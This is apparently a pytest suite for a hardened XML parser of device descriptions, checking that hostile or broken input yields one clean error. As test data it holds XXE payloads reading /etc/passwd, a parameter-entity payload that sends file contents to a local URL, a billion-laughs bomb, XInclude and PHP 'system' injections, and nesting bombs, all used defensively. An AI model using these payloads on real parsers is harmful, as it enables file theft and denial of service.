"""The hardened XML entry point: every hostile or broken input is one clean XMLInputError."""

from __future__ import annotations

import io
import os
import sys
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from nodedev_xml.errors import XMLInputError
from nodedev_xml.xml.safe import (
    MAX_DEPTH,
    MAX_INPUT_BYTES,
    MAX_TEXT_CHARS,
    parse_file,
    parse_xml,
    read_xml_source,
    strip_ignorable,
)

SECRET = "s3cr3t-do-not-leak-7f1c"

GOOD = b"""<device>
  <name>scsi_host5</name>
  <path>/sys/devices/pci0000:00/0000:00:04.0/0000:10:00.0/host5</path>
  <parent>pci_0000_10_00_0</parent>
  <capability type='scsi_host'>
    <host>5</host>
    <unique_id>2</unique_id>
    <capability type='fc_host'>
      <wwnn>20000000c9831b4b</wwnn>
      <wwpn>10000000c9831b4b</wwpn>
      <fabric_wwn>2002000573de9a81</fabric_wwn>
    </capability>
    <capability type='vport_ops'>
      <max_vports>127</max_vports>
      <vports>0</vports>
    </capability>
  </capability>
</device>
"""

VHBA = b"""<?xml version="1.0" encoding="UTF-8"?>
<!-- a vHBA -->
<device>
  <parent wwnn='20000000c9831b4b' wwpn='10000000c9831b4b'/>
  <capability type='scsi_host'>
    <capability type='fc_host'>
      <wwnn>2001001b32a9da4e</wwnn>
      <wwpn>2101001b32a9da4e</wwpn>
    </capability>
  </capability>
</device>
"""


def refused(data: str | bytes, source: str = "dev.xml") -> XMLInputError:
    """Parse ``data``, expect a refusal, check the message is one line naming the source."""
    with pytest.raises(XMLInputError) as info:
        parse_xml(data, source=source)
    err = info.value
    text = str(err)
    assert "\n" not in text and "\r" not in text
    assert text.startswith(f"{source}:")
    assert err.source == source
    if err.line is not None:
        assert text.startswith(f"{source}:{err.line}: ")
    assert SECRET not in text
    return err


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET + "\n")
    return path


# --------------------------------------------------------------------------- good documents


def test_plain_document_parses() -> None:
    root = parse_xml(GOOD)
    assert root.tag == "device"
    assert root.findtext("name") == "scsi_host5"
    assert root.find("capability/capability/wwpn") is not None


def test_declaration_and_comments_parse_and_are_kept() -> None:
    root = parse_xml(VHBA)
    assert root.tag == "device"
    comment = root.getprevious()
    assert isinstance(comment, etree._Comment)
    assert comment.text == " a vHBA "


@pytest.mark.parametrize(
    "decl",
    [
        b'<?xml version="1.0"?>',
        b'<?xml version="1.0" encoding="UTF-8"?>',
        b"<?xml version='1.0' encoding='utf-8'?>",
        b'<?xml version="1.0" encoding="utf8" standalone="yes"?>',
        b'<?xml version="1.0" encoding="US-ASCII"?>',
        b'<?xml version="1.0" encoding="ascii"?>',
    ],
)
def test_accepted_declarations(decl: bytes) -> None:
    assert parse_xml(decl + b"\n" + GOOD).tag == "device"


def test_utf8_bom_bytes_and_str() -> None:
    assert parse_xml(b"\xef\xbb\xbf" + VHBA).tag == "device"
    assert parse_xml("\ufeff" + VHBA.decode()).tag == "device"


def test_str_input_with_declaration_and_non_ascii() -> None:
    text = '<?xml version="1.0" encoding="UTF-8"?>\n<device><name>h\u00f4te</name></device>'
    assert parse_xml(text).findtext("name") == "h\u00f4te"


def test_whitespace_and_line_numbers_kept() -> None:
    root = parse_xml(GOOD)
    assert root.text == "\n  "
    assert root.findtext("name") == "scsi_host5"
    assert root.find("parent").sourceline == 4  # type: ignore[union-attr]
    assert root.find(".//max_vports").sourceline == 14  # type: ignore[union-attr]


def test_depth_at_the_limit_is_accepted() -> None:
    doc = b"<a>" * MAX_DEPTH + b"</a>" * MAX_DEPTH
    assert parse_xml(doc).tag == "a"


def test_text_at_the_limit_is_accepted() -> None:
    doc = b"<device><name>" + b"x" * MAX_TEXT_CHARS + b"</name></device>"
    assert len(parse_xml(doc).findtext("name") or "") == MAX_TEXT_CHARS


def test_cdata_and_predefined_entities() -> None:
    root = parse_xml(b"<device><name><![CDATA[a<b]]> &amp; &#65;</name></device>")
    assert root.findtext("name") == "a<b & A"


def test_strip_ignorable() -> None:
    root = parse_xml(
        b"<device>\n  <!-- c -->\n  <name> </name>\n"
        b"  <a><!--x-->keep</a>\n  <b>\n<!--y-->\n</b>\n</device>"
    )
    strip_ignorable(root)
    assert etree.tostring(root) == b"<device><name> </name><a>keep</a><b/></device>"
    assert root.find("a").sourceline == 4  # type: ignore[union-attr]


# --------------------------------------------------------------------------- DOCTYPE family


def test_external_entity_file_is_never_read(
    secret_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    doc = (
        '<?xml version="1.0"?>\n'
        f'<!DOCTYPE device [<!ENTITY xxe SYSTEM "file://{secret_file}">]>\n'
        "<device><name>&xxe;</name></device>\n"
    )
    err = refused(doc)
    assert err.line == 2
    assert "DOCTYPE" in err.message
    out = capsys.readouterr()
    assert SECRET not in out.out and SECRET not in out.err


def test_external_entity_etc_passwd() -> None:
    doc = (
        b'<!DOCTYPE device [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        b"<device><name>&xxe;</name></device>"
    )
    err = refused(doc)
    assert err.line == 1
    assert "root:" not in str(err)


def test_billion_laughs() -> None:
    lol = "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    doc = f'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol0 "lol">{lol}]>\n<lolz>&lol9;</lolz>'
    start = time.perf_counter()
    err = refused(doc)
    assert time.perf_counter() - start < 2.0
    assert err.line == 2
    assert "DOCTYPE" in err.message


def test_external_dtd(tmp_path: Path, secret_file: Path) -> None:
    dtd = tmp_path / "evil.dtd"
    dtd.write_text(f'<!ENTITY leak SYSTEM "file://{secret_file}">')
    doc = f'<!DOCTYPE device SYSTEM "file://{dtd}">\n<device>&leak;</device>'
    err = refused(doc)
    assert "DOCTYPE" in err.message
    err = refused('<!DOCTYPE device PUBLIC "-//x//y" "http://127.0.0.1:9/evil.dtd"><device/>')
    assert "DOCTYPE" in err.message


def test_parameter_entities(secret_file: Path) -> None:
    doc = (
        "<!DOCTYPE device [\n"
        f'  <!ENTITY % file SYSTEM "file://{secret_file}">\n'
        "  <!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM 'http://127.0.0.1:9/?%file;'>\">\n"
        "  %wrap; %send;\n"
        "]>\n<device/>"
    )
    err = refused(doc)
    assert err.line == 1
    assert "DOCTYPE" in err.message


def test_doctype_after_comments_names_its_line() -> None:
    err = refused(b'<?xml version="1.0"?>\n<!-- one -->\n\n<!doctype device>\n<device/>')
    assert err.line == 4
    assert "DOCTYPE" in err.message


def test_doctype_after_malformed_declaration() -> None:
    err = refused(b'<?xml version="1.0" encoding="UTF-8">\n<!DOCTYPE d SYSTEM "x.dtd">\n<d/>')
    assert err.line == 2
    assert "DOCTYPE" in err.message


def test_doctype_after_root_is_not_well_formed() -> None:
    err = refused(b"<device/>\n<!DOCTYPE device>")
    assert err.line == 2
    assert "not well-formed" in err.message


def test_undefined_entity_reference() -> None:
    err = refused(b"<device>\n  <name>&foo;</name>\n</device>")
    assert err.line == 2
    assert "foo" in err.message


# --------------------------------------------------------------------------- XInclude, PIs


def test_xinclude_is_not_processed(secret_file: Path) -> None:
    doc = (
        '<device xmlns:xi="http://www.w3.org/2001/XInclude">\n'
        f'  <xi:include href="file://{secret_file}" parse="text"/>\n'
        "</device>"
    )
    root = parse_xml(doc)
    assert root[0].tag == "{http://www.w3.org/2001/XInclude}include"
    assert SECRET not in etree.tostring(root, encoding="unicode")


def test_processing_instruction_in_body_refused() -> None:
    err = refused(b"<device>\n  <?php system('id'); ?>\n</device>")
    assert err.line == 2
    assert "processing instruction" in err.message


def test_stylesheet_pi_in_prolog_refused() -> None:
    err = refused(b'<?xml version="1.0"?>\n<?xml-stylesheet href="http://x/y.xsl"?>\n<device/>')
    assert err.line == 2
    assert "xml-stylesheet" in err.message


def test_pi_after_root_refused() -> None:
    err = refused(b"<device/>\n<?foo?>")
    assert "processing instruction" in err.message


# --------------------------------------------------------------------------- size and depth


def test_deep_nesting_100k_levels() -> None:
    doc = b"<a>" * 100_000 + b"</a>" * 100_000
    start = time.perf_counter()
    err = refused(doc)  # no RecursionError, no MemoryError
    assert time.perf_counter() - start < 2.0
    assert err.line == 1
    assert "nested deeper" in err.message


def test_deep_nesting_just_over_limit() -> None:
    depth = MAX_DEPTH + 1
    doc = b"<a>\n" * depth + b"</a>" * depth
    err = refused(doc)
    assert err.line == depth
    assert f"{MAX_DEPTH} levels" in err.message


def test_huge_text_node() -> None:
    doc = b"<device>\n<name>" + b"A" * (MAX_TEXT_CHARS + 1) + b"</name>\n</device>"
    err = refused(doc)
    assert err.line == 2
    assert str(MAX_TEXT_CHARS) in err.message


def test_huge_tail_text() -> None:
    doc = b"<device>\n<name/>" + b"A" * (MAX_TEXT_CHARS + 1) + b"\n</device>"
    err = refused(doc)
    assert err.line == 2


def test_huge_attribute() -> None:
    doc = b"<device>\n<parent wwnn='" + b"1" * (MAX_TEXT_CHARS + 1) + b"'/>\n</device>"
    err = refused(doc)
    assert err.line == 2
    assert "wwnn" in err.message


def test_huge_comment() -> None:
    err = refused(b"<device><!--" + b"c" * (MAX_TEXT_CHARS + 1) + b"--></device>")
    assert "comment" in err.message


def test_ten_mib_document_refused_before_parsing() -> None:
    doc = b"<device>" + b"x" * (10 * 1024 * 1024) + b"</device>"
    err = refused(doc)
    assert err.line is None
    assert "too large" in err.message
    err = refused(doc.decode())
    assert "too large" in err.message


def test_just_over_cap_refused() -> None:
    doc = b"<device>" + b" " * (MAX_INPUT_BYTES - len(b"<device></device>") + 1) + b"</device>"
    assert len(doc) == MAX_INPUT_BYTES + 1
    assert "too large" in refused(doc).message


# --------------------------------------------------------------------------- encodings


def test_latin1_declared_with_non_utf8_bytes() -> None:
    doc = b'<?xml version="1.0" encoding="ISO-8859-1"?>\n<device><name>caf\xe9</name></device>'
    err = refused(doc)
    assert err.line == 1
    assert "ISO-8859-1" in err.message and "UTF-8" in err.message


def test_latin1_declared_even_if_ascii_is_refused() -> None:
    err = refused(b"<?xml version='1.0' encoding='latin1'?><device/>")
    assert "LATIN1" in err.message


def test_invalid_utf8_without_declaration_names_line() -> None:
    err = refused(b"<device>\n  <name>caf\xe9</name>\n</device>")
    assert err.line == 2
    assert "UTF-8" in err.message


def test_ascii_declared_with_non_ascii() -> None:
    err = refused(b'<?xml version="1.0" encoding="US-ASCII"?>\n<device>\xc3\xa9</device>')
    assert err.line == 2
    assert "ASCII" in err.message


def test_utf16_with_bom() -> None:
    err = refused('<?xml version="1.0" encoding="UTF-16"?><device/>'.encode("utf-16"))
    assert "UTF-16" in err.message


def test_utf16_without_bom() -> None:
    err = refused("<device/>".encode("utf-16-le"))
    assert "UTF-16" in err.message
    err = refused("<device/>".encode("utf-16-be"))
    assert "UTF-16" in err.message


def test_utf16_declared_in_utf8_bytes() -> None:
    err = refused(b'<?xml version="1.0" encoding="UTF-16"?>\n<device/>')
    assert "UTF-16" in err.message


def test_unknown_declared_encoding() -> None:
    err = refused(b'<?xml version="1.0" encoding="x-no-such-codec"?><device/>')
    assert "UTF-8" in err.message


def test_lone_surrogate_in_str() -> None:
    err = refused("<device>\n<name>\udce9</name></device>")
    assert err.line == 2


# --------------------------------------------------------------------------- junk


def test_non_xml_text() -> None:
    err = refused("this is not XML at all\n")
    assert err.line == 1
    assert "not well-formed XML" in err.message


def test_binary_junk_with_nul() -> None:
    err = refused(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
    assert "UTF-8" in err.message or "binary" in err.message


def test_binary_junk_without_nul() -> None:
    err = refused(bytes(range(1, 256)))
    assert "UTF-8" in err.message


@pytest.mark.parametrize("data", [b"", "", b"   \n\t\n", b"\xef\xbb\xbf"])
def test_empty(data: str | bytes) -> None:
    err = refused(data)
    assert "empty" in err.message


def test_only_a_comment() -> None:
    assert "not well-formed" in refused(b"<!-- nothing -->\n").message


def test_truncated() -> None:
    err = refused(b"<device>\n  <name>scsi_host5</name>\n  <parent>pci")
    assert err.line == 3
    assert err.message.startswith("not well-formed XML: Premature end of data")


def test_mismatched_tags_name_line() -> None:
    err = refused(b"<device>\n<name>x</name>\n<parent>y</name>\n</device>")
    assert err.line == 3


def test_two_roots() -> None:
    assert "Extra content" in refused(b"<device/>\n<device/>").message


def test_source_with_control_characters_stays_one_line() -> None:
    with pytest.raises(XMLInputError) as info:
        parse_xml(b"", source="evil\nname\udcff.xml")
    assert "\n" not in str(info.value)
    str(info.value).encode("utf-8")  # printable on a UTF-8 terminal


# --------------------------------------------------------------------------- reading files


def test_read_file_and_parse_file(tmp_path: Path) -> None:
    path = tmp_path / "dev.xml"
    path.write_bytes(VHBA)
    assert read_xml_source(str(path)) == (VHBA, str(path))
    assert parse_file(str(path)).tag == "device"


def test_parse_file_error_names_the_file(tmp_path: Path) -> None:
    path = tmp_path / "bad.xml"
    path.write_bytes(b"<device>\n<name>")
    with pytest.raises(XMLInputError) as info:
        parse_file(str(path))
    assert str(info.value).startswith(f"{path}:2: not well-formed XML")


class _Stdin:
    def __init__(self, data: bytes) -> None:
        self.buffer = io.BytesIO(data)


def test_read_stdin(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdin", _Stdin(VHBA))
    assert read_xml_source("-") == (VHBA, "<stdin>")


def test_parse_stdin_error_names_stdin(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdin", _Stdin(b"<device>"))
    with pytest.raises(XMLInputError) as info:
        parse_file("-")
    assert str(info.value).startswith("<stdin>:1: ")


def test_read_text_stdin(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdin", io.StringIO(VHBA.decode()))
    assert read_xml_source("-") == (VHBA, "<stdin>")


class _Endless(io.RawIOBase):
    """An endless stream that counts what was read from it."""

    def __init__(self) -> None:
        self.served = 0

    def readable(self) -> bool:
        return True

    def readinto(self, buf: bytearray | memoryview) -> int:  # type: ignore[override]
        n = len(buf)
        buf[:n] = b" " * n
        self.served += n
        return n


def test_stdin_size_cap_reads_at_most_cap_plus_one(monkeypatch: pytest.MonkeyPatch) -> None:
    raw = _Endless()

    class Stdin:
        buffer = raw

    monkeypatch.setattr(sys, "stdin", Stdin())
    with pytest.raises(XMLInputError) as info:
        read_xml_source("-")
    assert str(info.value).startswith("<stdin>: document too large")
    assert raw.served <= MAX_INPUT_BYTES + 1


def test_oversized_file(tmp_path: Path) -> None:
    path = tmp_path / "big.xml"
    path.write_bytes(b" " * (MAX_INPUT_BYTES + 10))
    with pytest.raises(XMLInputError) as info:
        read_xml_source(str(path))
    assert str(info.value).startswith(f"{path}: document too large")


def test_dev_zero_is_capped() -> None:
    if not os.path.exists("/dev/zero"):
        pytest.skip("no /dev/zero")
    with pytest.raises(XMLInputError) as info:
        read_xml_source("/dev/zero")
    assert "too large" in str(info.value)


def test_missing_file(tmp_path: Path) -> None:
    path = tmp_path / "nope.xml"
    with pytest.raises(XMLInputError) as info:
        parse_file(str(path))
    assert str(info.value) == f"{path}: cannot read: no such file"


def test_directory(tmp_path: Path) -> None:
    with pytest.raises(XMLInputError) as info:
        read_xml_source(str(tmp_path))
    assert str(info.value).startswith(f"{tmp_path}: cannot read: is a directory")


def test_not_a_directory(tmp_path: Path) -> None:
    path = tmp_path / "file"
    path.write_text("x")
    with pytest.raises(XMLInputError) as info:
        read_xml_source(str(path / "dev.xml"))
    assert "cannot read" in str(info.value)


@pytest.mark.skipif(hasattr(os, "geteuid") and os.geteuid() == 0, reason="root reads anything")
def test_permission_denied(tmp_path: Path) -> None:
    path = tmp_path / "locked.xml"
    path.write_bytes(VHBA)
    path.chmod(0)
    try:
        with pytest.raises(XMLInputError) as info:
            read_xml_source(str(path))
        assert str(info.value) == f"{path}: cannot read: permission denied"
    finally:
        path.chmod(0o600)


# --------------------------------------------------------------------------- fuzz

_INSERTS = [
    b"<!DOCTYPE device [<!ENTITY a 'aaaa'>]>",
    b'<!DOCTYPE device SYSTEM "file:///etc/passwd">',
    b"<!DOCTYPE",
    b"&",
    b"&a;",
    b"&#0;",
    b"&#x110000;",
    b"<a>" * 300,
    b"<a>" * 70 + b"</a>" * 70,
    b"<?pi x?>",
    b"<?xml version='1.0' encoding='latin1'?>",
    b"<![CDATA[",
    b"]]>",
    b"<!--",
    b"-->",
    b"\x00",
    b"\xff\xfe",
    b"\xef\xbb\xbf",
    b"\xc3",
    b"\xed\xa0\x80",
    b"<",
    b">",
    b"'",
    b'"',
    b"</device>",
    b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>',
]


@st.composite
def mutated(draw: st.DrawFn) -> bytes:
    doc = bytearray(draw(st.sampled_from([GOOD, VHBA, b"<device/>"])))
    for _ in range(draw(st.integers(1, 4))):
        kind = draw(st.sampled_from(["flip", "truncate", "insert", "delete", "raw"]))
        pos = draw(st.integers(0, len(doc)))
        if kind == "flip" and doc:
            i = min(pos, len(doc) - 1)
            doc[i] ^= draw(st.integers(1, 255))
        elif kind == "truncate":
            del doc[pos:]
        elif kind == "insert":
            doc[pos:pos] = draw(st.sampled_from(_INSERTS))
        elif kind == "delete":
            del doc[pos : pos + draw(st.integers(1, 20))]
        else:
            doc[pos:pos] = draw(st.binary(min_size=1, max_size=8))
    return bytes(doc)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(mutated())
def test_fuzz_bytes_only_element_or_xml_input_error(data: bytes) -> None:
    try:
        root = parse_xml(data, source="fuzz.xml")
    except XMLInputError as err:
        text = str(err)
        assert "\n" not in text
        assert text.startswith("fuzz.xml")
    else:
        assert isinstance(root, etree._Element)
        assert root.getroottree().docinfo.doctype == ""


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(mutated())
def test_fuzz_str_only_element_or_xml_input_error(data: bytes) -> None:
    text = data.decode("utf-8", "surrogateescape")
    try:
        root = parse_xml(text, source="fuzz.xml")
    except XMLInputError as err:
        assert "\n" not in str(err)
    else:
        assert isinstance(root, etree._Element)
